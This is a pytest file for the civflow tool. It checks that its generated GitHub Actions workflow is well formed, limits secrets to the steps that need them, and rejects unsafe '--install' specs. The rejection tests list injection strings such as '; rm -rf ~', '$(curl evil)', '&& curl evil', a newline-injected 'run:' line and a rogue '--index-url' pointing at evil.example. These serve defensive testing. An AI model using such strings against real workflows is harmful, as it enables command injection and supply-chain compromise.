"""The GitHub Actions workflow `civflow init` writes is valid, and its commands work.

Promises guarded here:
- the file has the structure Actions requires (on / jobs / runs-on / steps, every step
  either `run` or `uses`, actions pinned to a major version), runs on pull requests and
  on pushes to the default branch, asks only for the permissions it uses, and gives the
  API key to the paid run alone;
- its shell steps, run as Actions runs them (bash -e -o pipefail, `${{ }}` substituted)
  in real git clones against the emulator: the default branch runs every pipeline under
  the cap with the key from the secret, commits the lockfile back and pushes the
  artifacts to the remote; a pull request validates, pulls, writes the review page, plans
  against the base branch, and keeps ONE sticky comment (found by its hidden marker and
  edited on the next push, never a second one) that names the change and links the page;
- the API key never appears in any step's output;
- both install steps install the same pinned civflow: `civflow==<this version>` by
  default, else what `civflow init --install SPEC` says (a bare `git+URL@REF` becomes
  `civflow @ git+URL@REF`) as one shell word; a spec of more than one line, with a shell
  metacharacter or `${{`, a pip option, another project, or a VCS URL without its
  commit is refused (exit 2, nothing written).
"""

from __future__ import annotations

import shlex
import subprocess
import sys
from pathlib import Path, PurePosixPath
from typing import Any

import pytest

import civflow
from civflow.emulator import EmulatorConfig, start_emulator
from civflow.scaffold.starter import WORKFLOW_FILE, install_requirement, starter_files
from tests.scaffold.actions import (
    base_env,
    calls,
    comments,
    condition,
    git_in,
    install_fake_gh,
    load_workflow,
    plant_comment,
    run_job,
)

SECRET = "sk-test-3f9a1c7e0b2d"  # the emulator's key; must never be printed
MARKER = "<!-- civflow-plan -->"


def _workflow_text() -> str:
    (workflow,) = [f for f in starter_files(PurePosixPath("."), hook=False)
                   if f.path == WORKFLOW_FILE]
    return workflow.text


def test_workflow_has_the_structure_actions_requires() -> None:
    """on / jobs / steps as Actions requires; the triggers, permissions and secrets."""
    flow = load_workflow(_workflow_text())
    assert set(flow["on"]) == {"pull_request", "push", "pull_request_target", "issue_comment"}
    assert set(flow["on"]["push"]["branches"]) >= {"main"}
    # Labels and comments: only what asks for an apply, nothing else of those events.
    assert flow["on"]["pull_request_target"] == {"types": ["labeled"]}
    assert flow["on"]["issue_comment"] == {"types": ["created"]}
    assert set(flow["jobs"]) == {"review", "approve", "apply", "run"}
    assert "concurrency" not in flow  # a comment's run must never cancel a paid one
    for name, job in flow["jobs"].items():
        assert job["runs-on"] == "ubuntu-latest", name
        assert isinstance(job["steps"], list) and job["steps"], name
        for step in job["steps"]:
            assert isinstance(step, dict)
            assert ("run" in step) != ("uses" in step), (name, step)
            assert set(step) <= {"name", "id", "if", "run", "uses", "with", "env"}, step
            if "uses" in step:
                assert step["uses"].split("@")[1].startswith("v"), step["uses"]
    review, run = flow["jobs"]["review"], flow["jobs"]["run"]
    assert "pull_request" in review["if"] and "push" in run["if"]
    assert "default_branch" in run["if"]
    assert review["permissions"] == {"contents": "read", "pull-requests": "write"}
    assert run["permissions"] == {"contents": "write"}
    checkout = review["steps"][0]
    assert checkout["uses"].startswith("actions/checkout@")
    assert checkout["with"]["fetch-depth"] == 0
    uses = [s["uses"].split("@")[0] for s in review["steps"] if "uses" in s]
    assert "actions/upload-artifact" in uses
    text = _workflow_text()
    # The key reaches two steps only: the paid run on the default branch, and the apply
    # of a pull request, whose job starts only after the approval job passed.
    assert text.count("secrets.CIVITAI_API_KEY") == 2
    apply, approve = flow["jobs"]["apply"], flow["jobs"]["approve"]
    assert apply["needs"] == "approve" and "if" not in apply
    assert not any("secrets." in str(v) for s in approve["steps"]
                   for v in s.get("env", {}).values() if "GH_TOKEN" not in str(v)), approve
    for job in (run, apply):
        (keyed,) = [s for s in job["steps"] if "CIVITAI_API_KEY" in s.get("env", {})]
        assert "civflow run --yes --max-cost" in keyed["run"]
        assert "${{ vars.CIVFLOW_MAX_COST }}" in keyed["env"]["MAX_COST"]
    assert apply["concurrency"]["cancel-in-progress"] is False
    assert "number" in apply["concurrency"]["group"]
    assert MARKER in text


def test_secrets_and_event_values_reach_only_the_steps_that_use_them() -> None:
    """Secrets are given step by step (a job- or workflow-wide secret reaches every
    step, the pull request's own commands included); values from the event reach shell
    lines through `env:`, never pasted into a script where a branch name could run."""
    flow = load_workflow(_workflow_text())
    assert not any("secrets." in str(v) for v in flow.get("env", {}).values())
    for name, job in flow["jobs"].items():
        assert not any("secrets." in str(v) for v in job.get("env", {}).values()), name
        for step in job["steps"]:
            assert "${{" not in step.get("run", ""), (name, step.get("name"))
            secrets = {k for k, v in step.get("env", {}).items() if "secrets." in str(v)}
            if secrets - {"GH_TOKEN"}:
                # Only steps that talk to the remote or the API hold credentials.
                assert any(word in step["run"] for word in
                           ("civflow pull", "civflow push", "civflow run")), step


def _git(cwd: Path, *args: str, env: dict[str, str]) -> str:
    return git_in(cwd, *args, env=env)


@pytest.mark.timeout(900)
def test_workflow_commands_run_end_to_end_on_the_emulator(tmp_path: Path) -> None:
    """Default branch: run under the cap, lockfile committed back, artifacts pushed.
    Pull request: validate, pull, review page, plan against the base, one sticky comment
    kept up to date."""
    env = base_env()
    origin = tmp_path / "origin.git"
    _git(tmp_path, "init", "-q", "--bare", "-b", "main", str(origin), env=env)
    remote = (tmp_path / "remote").as_uri()
    outputs: list[str] = []

    # A developer starts the repository with civflow init and pushes it.
    dev = tmp_path / "dev"
    done = subprocess.run(["civflow", "init", str(dev), "--no-hooks"], env=env, text=True,
                          capture_output=True, timeout=120, check=False)
    assert done.returncode == 0, done.stdout + done.stderr
    _git(dev, "checkout", "-q", "-b", "main", env=env)
    _git(dev, "add", "-A", env=env)
    _git(dev, "commit", "-q", "-m", "start", env=env)
    _git(dev, "remote", "add", "origin", str(origin), env=env)
    _git(dev, "push", "-q", "origin", "main", env=env)
    flow = load_workflow((dev / WORKFLOW_FILE).read_text(encoding="utf-8"))

    with start_emulator(EmulatorConfig(announce=False, time_scale=0, api_key=SECRET)) as emulator:
        job_env = base_env(CIVITAI_BASE_URL=emulator.url, GITHUB_REPOSITORY="studio/art",
                           PIPELINES=flow["env"]["PIPELINES"], CIVFLOW_REMOTE=remote)
        # The merge to main: the `run` job in a fresh clone, as actions/checkout makes it.
        main_ci = tmp_path / "ci-main"
        _git(tmp_path, "clone", "-q", "-b", "main", str(origin), str(main_ci), env=env)
        context = {
            "github.event_name": "push", "github.ref_name": "main",
            "github.event.repository.default_branch": "main", "github.run_id": "41",
            "secrets.CIVITAI_API_KEY": SECRET, "vars.CIVFLOW_MAX_COST": "200",
            "vars.CIVFLOW_REMOTE": remote, "secrets.AWS_ACCESS_KEY_ID": "",
            "secrets.AWS_SECRET_ACCESS_KEY": "",
        }
        main_job = flow["jobs"]["run"]
        assert condition(main_job["if"], context)
        ran = run_job(main_job, main_ci, context, {**job_env, "GITHUB_REF_NAME": "main"},
                       outputs)
        assert "Run every pipeline" in ran and "Push the artifacts to the remote" in ran
        assert emulator.counters()["steps_created"] == 4
        log = _git(origin, "log", "--format=%s", "main", env=env).splitlines()
        assert log[0].startswith("civflow: lockfiles of run 41"), log
        lockfile = _git(origin, "show", "main:pipelines/hello.lock.json", env=env)
        assert "picture[seed=11]" in lockfile
        assert any((tmp_path / "remote").rglob("*")), "nothing was pushed to the remote"

        # A pull request changes the prompt.
        _git(dev, "pull", "-q", "origin", "main", env=env)
        _git(dev, "checkout", "-q", "-b", "fox", env=env)
        pipeline = dev / "pipelines" / "hello.yaml"
        text = pipeline.read_text(encoding="utf-8")
        assert "a lighthouse on a cliff at dusk" in text
        pipeline.write_text(text.replace("a lighthouse on a cliff at dusk",
                                         "a red fox in the snow"), encoding="utf-8")
        _git(dev, "commit", "-q", "-am", "a fox instead", env=env)
        _git(dev, "push", "-q", "origin", "fox", env=env)

        pr_ci = tmp_path / "ci-pr"
        _git(tmp_path, "clone", "-q", "-b", "fox", str(origin), str(pr_ci), env=env)
        state = install_fake_gh(tmp_path / "bin")
        pr_env = {**job_env, "PATH": f"{tmp_path / 'bin'}:{job_env['PATH']}",
                  "FAKE_GH_STORE": str(state)}
        url = "https://github.com/studio/art/actions/runs/42/artifacts/7"
        context = {
            "github.event_name": "pull_request", "github.base_ref": "main",
            "github.event.pull_request.number": "7", "github.token": "ghs-token",
            "steps.upload.outputs.artifact-url": url, "vars.CIVFLOW_REMOTE": remote,
            "secrets.AWS_ACCESS_KEY_ID": "", "secrets.AWS_SECRET_ACCESS_KEY": "",
        }
        review = flow["jobs"]["review"]
        assert condition(review["if"], context)
        # The pull request's author posts the marker first, hoping the plan lands in a
        # comment they can edit afterwards.
        planted = plant_comment(state, 7, f"{MARKER}\nlooks good, merge it", "mallory")
        created_before = emulator.counters()["steps_created"]
        ran = run_job(review, pr_ci, context, pr_env, outputs)
        assert {"Validate", "Fetch the artifacts the lockfiles name", "Review page",
                "Plan against the base branch", "Sticky comment"} <= set(ran), ran
        assert emulator.counters()["steps_created"] == created_before  # nothing paid
        theirs, comment = comments(state)
        assert theirs["id"] == planted and theirs["body"].endswith("looks good, merge it")
        assert comment["user"]["login"] == "github-actions[bot]"
        assert comment["issue"] == 7 and MARKER in comment["body"]
        assert url in comment["body"]
        assert "seed=11" in comment["body"] and "seed=22" in comment["body"]
        assert len(comment["body"]) < 65_536
        # The next push to the pull request edits the same comment.
        pipeline_ci = pr_ci / "pipelines" / "hello.yaml"
        pipeline_ci.write_text(pipeline_ci.read_text(encoding="utf-8").replace(
            "blurry, lowres", "blurry, lowres, text"), encoding="utf-8")
        _git(pr_ci, "commit", "-q", "-am", "no text", env=env)
        run_job(review, pr_ci, context, pr_env, outputs)
        theirs_again, again = comments(state)
        assert theirs_again == theirs
        assert again["id"] == comment["id"] and again["body"] != comment["body"]
        assert [c[0] for c in calls(state)] == ["GET", "POST", "GET", "PATCH"]
    assert not any(SECRET in out for out in outputs), "the API key was printed"


def install_lines(flow: dict[str, Any]) -> list[str]:
    """The `run:` of every step that installs civflow, in every job."""
    return [step["run"] for job in flow["jobs"].values() for step in job["steps"]
            if "pip install" in step.get("run", "")]


def _init(tmp_path: Path, *install: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "civflow", "init", str(tmp_path / "studio"),
                           "--no-hooks", *install], env=base_env(), text=True,
                          capture_output=True, timeout=120, check=False,
                          stdin=subprocess.DEVNULL)


def test_the_workflow_installs_this_version_pinned_by_default() -> None:
    lines = install_lines(load_workflow(_workflow_text()))
    assert lines == [f"pip install civflow=={civflow.__version__}"] * 3  # review, apply, run


@pytest.mark.parametrize(("spec", "requirement"), [
    ("git+https://github.com/studio/civflow@3f9a1c7e0b2d4a5f6e7d8c9b0a1f2e3d4c5b6a7f",
     "civflow @ git+https://github.com/studio/civflow@3f9a1c7e0b2d4a5f6e7d8c9b0a1f2e3d4c5b6a7f"),
    ("git+ssh://git@github.com/studio/civflow.git@v0.1.0",
     "civflow @ git+ssh://git@github.com/studio/civflow.git@v0.1.0"),
    ("civflow[s3]==0.1.0", "civflow[s3]==0.1.0"),
    ("civflow>=0.1,<0.2", "civflow>=0.1,<0.2"),
    ("  CivFlow  ==  0.1.0 ", "CivFlow == 0.1.0"),
    ("civflow @ https://example.com/c.whl#sha256=ab #x",
     "civflow @ https://example.com/c.whl#sha256=ab #x"),
    ("./vendor/civflow-0.1.0-py3-none-any.whl", "./vendor/civflow-0.1.0-py3-none-any.whl"),
])
def test_init_install_writes_the_requirement_as_one_shell_word(
        tmp_path: Path, spec: str, requirement: str) -> None:
    """What `--install` names is what both steps install, read back by YAML and by the
    shell exactly (a ` #` in it stays part of the word, not a YAML comment)."""
    done = _init(tmp_path, "--install", spec)
    assert done.returncode == 0, done.stdout + done.stderr
    text = (tmp_path / "studio" / WORKFLOW_FILE).read_text(encoding="utf-8")
    lines = install_lines(load_workflow(text))
    assert len(lines) == 3 and len(set(lines)) == 1
    assert shlex.split(lines[0]) == ["pip", "install", " ".join(requirement.split())]


@pytest.mark.parametrize(("spec", "says"), [
    ("git", "URL and commit"),
    ("git+https://github.com/studio/civflow", "without @REF"),
    ("git+https://github.com/studio/civflow.git", "without @REF"),
    ("civflow==0.1.0\nrun: curl evil", "one line"),
    ("civflow==0.1.0; rm -rf ~", "';'"),
    ("civflow==$(curl evil)", "'$'"),
    ("civflow==`id`", "'`'"),
    ("civflow @ git+https://x/${{ github.token }}@r", "'$'"),
    ("civflow==0.1.0 && curl evil", "'&'"),
    ("civflow'==0.1.0", "\"'\""),
    ("civflow\t==0.1.0\x1b", "'\\x1b'"),
    ("--index-url https://evil.example/simple civflow", "a pip option"),
    ("requests==2.32.0", "does not install civflow"),
    ("civflow2", "does not install civflow"),
    ("   ", "empty"),
])
def test_init_install_refuses_what_is_not_one_safe_requirement(
        tmp_path: Path, spec: str, says: str) -> None:
    done = _init(tmp_path, "--install", spec)
    assert done.returncode == 2, done.stdout + done.stderr
    assert "--install" in done.stderr and says in done.stderr, done.stderr
    assert "hint:" in done.stderr
    assert not (tmp_path / "studio").exists()


def test_starter_files_take_the_requirement() -> None:
    (workflow,) = [f for f in starter_files(PurePosixPath("."), hook=False,
                                            install="civflow @ git+https://x/y@abc")
                   if f.path == WORKFLOW_FILE]
    assert install_lines(load_workflow(workflow.text)) == \
        ["pip install 'civflow @ git+https://x/y@abc'"] * 3


def test_the_default_pin_is_where_this_civflow_came_from(tmp_path: Path) -> None:
    """`init` without --install pins what CI can install again: a git install's commit,
    or the public origin and commit of the clone an editable install points at."""
    from civflow.cli.scaffold import pinned_source

    commit = "3f9a1c7e0b2d4a5f6e7d8c9b0a1f2e3d4c5b6a7f"
    assert pinned_source({"url": "https://github.com/studio/civflow",
                          "vcs_info": {"vcs": "git", "commit_id": commit}}) == \
        f"git+https://github.com/studio/civflow@{commit}"
    clone = tmp_path / "clone"
    env = base_env()
    _git(tmp_path, "init", "-q", str(clone), env=env)
    _git(clone, "commit", "-q", "--allow-empty", "-m", "start", env=env)
    head = _git(clone, "rev-parse", "HEAD", env=env).strip()
    editable = {"url": clone.as_uri(), "dir_info": {"editable": True}}
    assert pinned_source(editable) is None  # no origin: nothing CI could reach
    _git(clone, "remote", "add", "origin", "/srv/git/civflow.git", env=env)
    assert pinned_source(editable) is None  # a local path
    _git(clone, "remote", "set-url", "origin", "git@github.com:studio/civflow.git", env=env)
    assert pinned_source(editable) == f"git+https://github.com/studio/civflow.git@{head}"
    assert install_requirement(pinned_source(editable)) == \
        f"civflow @ git+https://github.com/studio/civflow.git@{head}"
